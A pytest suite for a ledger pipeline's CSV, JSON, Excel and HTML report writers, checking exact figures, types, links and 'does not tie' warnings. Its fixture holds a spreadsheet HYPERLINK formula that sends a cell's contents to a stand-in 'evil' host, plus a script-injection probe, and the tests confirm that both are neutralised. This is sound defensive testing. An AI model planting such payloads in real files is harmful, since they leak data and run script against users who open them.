"""The files: exact figures, types, links, warnings, and text that stays text. Golden files stand beside; LEDGER_GOLDEN=1 writes them."""

from __future__ import annotations

import csv
import json
import os
import re
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from datetime import date, datetime
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest

from ledger_pipeline.reports import charts
from ledger_pipeline.reports.render import FORMS, excel, safe, write
from ledger_pipeline.reports.statements.statement import (
    Chart,
    Check,
    Column,
    Link,
    Period,
    Row,
    Statement,
    Total,
    zero,
)
from ledger_pipeline_tests.reports.statements.conftest import scope_of

GOLDEN = Path(__file__).parent / "golden"
SCOPE = scope_of("2026-10-01", "2026-10-31")
NASTY = '=HYPERLINK("http://evil/?"&A1;"x")\n<script>alert(\'x\')</script>|\x01'
STATEMENT = Statement(
    "sample",
    "Sample",
    SCOPE,
    (
        Column("Id"), Column("Date", "date"), Column("Entry", "count"), Column("Amount", "money"), Column("Dinar", "money"),
        Column("Yen", "money"), Column("Run", is_detail=True),
    ),
    (
        Row(("4000 Sales", None, None, None, None, None, None), "heading"),
        Row((NASTY, date(2026, 10, 5), Link(7, "e7-1"), Decimal("-1234.50"), Decimal("0.500"), Decimal("1500"), "@run"), anchor="e8-1"),
        Row(("plain, “quoted”", None, 7, Decimal("99999999999999.99"), None, None, "run-2"), anchor="e7-1"),
        Row(("Total", None, None, Decimal("0.00"), None, None, None), "total"),
    ),
    (zero("sums to zero", 0, "USD"),),
    (Period(date(2026, 10, 1), "closing"),),
    (Total("sum", 0, "USD"),),
    (Chart("Sums", charts.bar_chart(["a"], {"x": [1]}, title="Sums")),),
    ("A note & a half.",),
)  # fmt: skip
OFF = replace(STATEMENT, name="off", title="Off", checks=(*STATEMENT.checks, Check("ties <b>", False, "-3.00 USD")))


def golden(path: Path, name: str) -> None:
    kept = GOLDEN / name
    if os.environ.get("LEDGER_GOLDEN"):
        kept.parent.mkdir(exist_ok=True)
        kept.write_bytes(path.read_bytes())
    assert path.read_bytes() == kept.read_bytes(), f"{name} differs; LEDGER_GOLDEN=1 writes it anew"


# safe ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "  =1", "\u00a0=1", "\u3000=1", "\ufeff=1", "\u200b=1", "\x00=1",
        "＝1+1", "＋1", "－1", "＠SUM(A1)", " ＝1", "\tharmless", "\rharmless",
    ],
)  # fmt: skip
def test_what_a_spreadsheet_executes_gets_an_apostrophe(text: str) -> None:
    assert safe.is_dangerous(text)
    assert safe.neutralised(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "a=1", "1-2", "gid://shopify/Order/1", "#1001", "'=1", "a@b", "x; y", "–dash", "x -1"]
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert not safe.is_dangerous(text)
    assert safe.neutralised(text) == text


@pytest.mark.parametrize(
    ("text", "becomes"),
    [("a;=1", "a;'=1"), ("a\t@x", "a\t'@x"), ("a\n-1", "a\n'-1"), ("a; \"=1", "a; \"'=1"), (";;+1", ";;'+1"), ("=1;=2", "'=1;'=2"), ("\t=1", "'\t'=1"),
     ("\r=1", "'\r'=1"), ("\n=1", "'\n'=1")],
)  # fmt: skip
def test_a_formula_behind_a_separator_of_another_locale_is_neutralised_too(text: str, becomes: str) -> None:
    assert safe.neutralised(text) == becomes


# CSV -----------------------------------------------------------------------------------------------------------


def test_csv_is_rfc_4180_with_plain_numbers_and_safe_text(tmp_path: Path) -> None:
    (written,) = write([STATEMENT], SCOPE, "csv", tmp_path)
    golden(written.path, "sample.csv")
    raw = written.path.read_bytes().decode("utf-8")
    assert raw.startswith('"Row","Id","Date","Entry","Amount","Dinar","Yen","Run"\r\n')
    rows = list(csv.reader(raw.splitlines(keepends=True)))
    assert [row[0] for row in rows[1:]] == ["heading", "line", "line", "total"]
    assert rows[2][1].startswith("'=HYPERLINK(")
    assert rows[2][2:] == ["2026-10-05", "7", "-1234.50", "0.500", "1500", "'@run"]
    assert ",-1234.50,0.500,1500," in raw
    checks = (tmp_path / "acme_checks_2026-10-01_2026-10-31.csv").read_text()
    assert '"sample","sums to zero","yes","0.00 USD"' in checks


def test_a_csv_that_does_not_tie_says_so_in_its_name_and_leaves_no_other(tmp_path: Path) -> None:
    name = "acme_off_2026-10-01_2026-10-31"
    (written,) = write([OFF], SCOPE, "csv", tmp_path)
    assert (written.ties, written.path.name) == (False, f"{name}.DOES_NOT_TIE.csv")
    assert '"off","ties <b>","NO","\'-3.00 USD"' in (tmp_path / "acme_checks_2026-10-01_2026-10-31.csv").read_text()
    write([replace(OFF, checks=())], SCOPE, "csv", tmp_path)
    assert sorted(p.name for p in tmp_path.glob("*off*")) == [f"{name}.csv"]


# JSON ----------------------------------------------------------------------------------------------------------


def test_json_holds_everything_exactly(tmp_path: Path) -> None:
    (written,) = write([OFF], SCOPE, "json", tmp_path)
    found = json.loads(written.path.read_text())
    assert found["rows"][1]["cells"] == [NASTY, "2026-10-05", 7, "-1234.50", "0.500", "1500", "@run"]
    assert found["rows"][2]["cells"][3] == "99999999999999.99"
    assert (found["ties"], found["checks"][1]["difference"]) == (False, "-3.00 USD")
    assert found["periods"] == [{"month": "2026-10", "state": "closing"}]
    assert found["totals"] == {"sum": {"amount": "0.00", "currency": "USD"}}


def test_json_of_a_statement_without_rows_is_json(tmp_path: Path) -> None:
    (written,) = write([replace(STATEMENT, rows=())], SCOPE, "json", tmp_path)
    assert json.loads(written.path.read_text())["rows"] == []


# Excel ---------------------------------------------------------------------------------------------------------


@pytest.fixture
def workbook(tmp_path: Path) -> Path:
    return write([STATEMENT, OFF], SCOPE, "xlsx", tmp_path)[0].path


def test_excel_has_numbers_dates_and_text_in_their_own_types(workbook: Path) -> None:
    book = openpyxl.load_workbook(workbook)
    assert book.sheetnames == ["Summary", "Sample", "Off"]
    sheet = book["Sample"]
    assert sheet.freeze_panes == "A3"
    assert [cell.value for cell in sheet[2]] == ["Id", "Date", "Entry", "Amount", "Dinar", "Yen", "Run"]
    id_, day, entry, amount, dinar, yen, run = sheet[4]
    assert (id_.data_type, run.data_type) == ("s", "s")
    assert (day.value, day.number_format) == (datetime(2026, 10, 5), "yyyy-mm-dd")  # noqa: DTZ001 - what openpyxl reads
    assert (entry.value, amount.value, amount.number_format) == (7, -1234.5, "#,##0.00")
    assert (dinar.number_format, yen.number_format, yen.value) == ("#,##0.000", "#,##0", 1500)
    assert sheet["D6"].value == 0
    assert sheet["D6"].font.bold


def test_excel_executes_no_text(workbook: Path) -> None:
    sheet = openpyxl.load_workbook(workbook)["Sample"]
    assert sheet["A4"].value == NASTY.replace("\x01", "\ufffd")
    assert (sheet["A4"].quotePrefix, sheet["G4"].quotePrefix, sheet["A5"].quotePrefix) == (True, True, False)
    with zipfile.ZipFile(workbook) as file:
        texts = [file.read(name).decode() for name in file.namelist() if name.startswith("xl/worksheets/sheet")]
    assert len(texts) == 3
    assert not [text for text in texts if re.search(r"<f[ >/]", text)]


def test_excel_rounds_no_amount_of_more_than_fifteen_digits(workbook: Path) -> None:
    cell = openpyxl.load_workbook(workbook)["Sample"]["D5"]
    assert (cell.data_type, cell.value) == ("s", "99999999999999.99")


def test_excel_gives_every_row_its_own_values_and_keeps_text_of_digits_text(tmp_path: Path) -> None:
    rows = [
        Row((text, date(2026, 10, n), n, amount, None, None, None))
        for n, (text, amount) in enumerate(
            (("5207320000006", Decimal("1.00")), ("#N/A", Decimal("2.000")), ("1e5", None), ("a=1", Decimal("-3.00"))),
            1,
        )
    ]
    path = write([replace(STATEMENT, rows=rows)], SCOPE, "xlsx", tmp_path)[0].path
    found = list(openpyxl.load_workbook(path)["Sample"].iter_rows(min_row=3))
    assert [(row[0].value, row[0].data_type) for row in found] == [
        ("5207320000006", "s"), ("#N/A", "s"), ("1e5", "s"), ("a=1", "s"),
    ]  # fmt: skip
    assert [row[1].value.day for row in found] == [1, 2, 3, 4]
    assert [row[3].value for row in found] == [1, 2, None, -3]
    assert [row[3].number_format for row in found] == ["#,##0.00", "#,##0.000", "General", "#,##0.00"]


def test_excel_says_in_red_what_does_not_tie(workbook: Path) -> None:
    book = openpyxl.load_workbook(workbook)
    assert book["Off"]["B1"].value == "DOES NOT TIE: ties <b>: off by -3.00 USD"
    assert book["Off"]["B1"].font.color.rgb == "FFC00000"
    assert book["Sample"]["B1"].value == "ties"
    rows = list(book["Summary"].iter_rows(values_only=True))
    assert ("Off", "ties <b>", "NO", "-3.00 USD") in rows
    assert ("Period 2026-10", "closing", None, None) in rows


def test_a_ledger_longer_than_a_sheet_goes_on_on_the_next(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(excel, "ROWS_PER_SHEET", 4)
    path = write([STATEMENT], SCOPE, "xlsx", tmp_path)[0].path
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Summary", "Sample", "Sample 2"]
    assert [sheet.max_row for sheet in book.worksheets[1:]] == [4, 4]
    assert book["Sample 2"]["A2"].value == "Id"


# HTML ----------------------------------------------------------------------------------------------------------


class Page(HTMLParser):
    """Ids, links and tags of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.ids: list[str] = []
        self.links: list[str] = []
        self.tags: list[str] = []
        self.outside: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            if name == "id":
                self.ids.append(value or "")
            elif name == "href":
                self.links.append(value or "")
            elif name == "src" or name.startswith("on"):
                self.outside.append(f"{name}={value}")


def test_html_is_one_file_without_scripts_whose_links_lead_somewhere(tmp_path: Path) -> None:
    (written,) = write([STATEMENT], SCOPE, "html", tmp_path)
    golden(written.path, "sample.html")
    page = Page(written.path.read_text())
    assert page.links == ["#sample", "#e7-1"]
    assert {"sample", "e7-1", "e8-1"} == set(page.ids)
    assert len(page.ids) == len(set(page.ids))
    assert "script" not in page.tags
    assert page.outside == []
    assert page.tags.count("svg") == 1
    assert [p.name for p in tmp_path.iterdir()] == [written.path.name]


def test_html_escapes_text_and_writes_figures_with_separators(tmp_path: Path) -> None:
    text = write([OFF], SCOPE, "html", tmp_path)[0].path.read_text()
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in text
    assert "<b>" not in text
    assert '<td class="n negative">-1,234.50</td>' in text
    assert "Periods: 2026-10 closing. Made at 2026-11-23 12:00:00 UTC." in text


def test_html_says_in_red_what_does_not_tie(tmp_path: Path) -> None:
    text = write([STATEMENT, OFF], SCOPE, "html", tmp_path)[0].path.read_text()
    assert text.count('<p class="banner">') == 2
    assert '<p class="banner">Doesn’t tie: Off</p>' in text
    assert ".banner { border: 2px solid #c00000; color: #c00000" in text
    assert '<td class="off">NO</td><td>-3.00 USD</td>' in text
    assert "banner" not in write([STATEMENT], SCOPE, "html", tmp_path)[0].path.read_text().partition("</style>")[2]


def test_a_failure_while_writing_leaves_no_file_that_looks_whole(tmp_path: Path) -> None:
    def broken() -> Iterator[Row]:
        yield STATEMENT.rows[1]  # type: ignore[index]
        raise ArithmeticError("off")

    for form in FORMS:
        with pytest.raises(ArithmeticError):
            write([replace(STATEMENT, rows=broken())], SCOPE, form, tmp_path)
    assert list(tmp_path.iterdir()) == []


def test_charts_in_html_are_well_formed(tmp_path: Path) -> None:
    text = write([STATEMENT], SCOPE, "html", tmp_path)[0].path.read_text()
    (svg,) = re.findall(r"<svg.*?</svg>", text, re.DOTALL)
    assert ET.fromstring(svg).tag.endswith("svg")  # noqa: S314 - our own text
